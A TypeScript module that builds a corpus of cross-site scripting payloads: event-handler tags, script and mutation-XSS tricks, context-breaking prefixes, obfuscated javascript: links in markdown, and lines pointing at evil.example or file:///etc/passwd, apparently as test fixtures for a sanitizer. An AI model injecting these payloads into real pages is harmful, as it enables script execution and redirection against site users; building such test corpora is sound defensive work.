/** What people write to run a script on somebody else's page: every carrier with every way in, and every disguise of an address. */
const CALL = 'alert(1)'

const CARRIERS = [
  'img src=x',
  'svg',
  'body',
  'video><source',
  'audio src=x',
  'details open',
  'input autofocus',
]
const EVENTS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onanimationstart', 'onpointerover']
const QUOTES = ['', '"', "'", '`']

const handlers = CARRIERS.flatMap((carrier) =>
  EVENTS.flatMap((event) => QUOTES.map((quote) => `<${carrier} ${event}=${quote}${CALL}${quote}>`)),
)

const ELEMENTS = [
  `<script>${CALL}</script>`,
  `<SCRIPT/x>${CALL}</SCRIPT>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<iframe srcdoc="<script>${CALL}</script>">`,
  `<object data="data:text/html,<script>${CALL}</script>">`,
  `<embed src="javascript:${CALL}">`,
  `<form action="javascript:${CALL}"><button>x</button></form>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<template><img src=x onerror=${CALL}></template>`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/">`,
  `<svg><use href="https://evil.example/x.svg#x"/></svg>`,
]
const BREAKS = ['', '">', "'>", '-->', '*/', ']]>', '</title>', '</textarea>', '`}']
const elements = BREAKS.flatMap((out) => ELEMENTS.map((element) => out + element))

const SCHEMES = [
  'javascript',
  'JaVaScRiPt',
  'java\tscript',
  'java\nscript',
  '\u0001javascript',
  'javascript&colon',
  'vbscript',
]
const FORMS = [
  '$:alert(1)',
  '[x]($:alert(1))',
  '[x](  $:alert(1))',
  '[x](<$:alert(1)>)',
  '![x]($:alert(1))',
  '<$:alert(1)>',
]
const links = [
  ...SCHEMES.flatMap((scheme) => FORMS.map((form) => form.replace('$', scheme))),
  ...[
    'data:text/html;base64,PHNjcmlwdD4=',
    'blob:x',
    'file:///etc/passwd',
    '//evil.example',
    '\\\\evil.example',
  ].map((address) => `[x](${address})`),
]

export const VECTORS: readonly string[] = [...handlers, ...elements, ...links]

const A_MESSAGE = 15

/** All of them, a handful in each text. */
export const TEXTS: readonly string[] = Array.from(
  { length: Math.ceil(VECTORS.length / A_MESSAGE) },
  (_, i) => VECTORS.slice(i * A_MESSAGE, (i + 1) * A_MESSAGE).join('\n\n'),
)
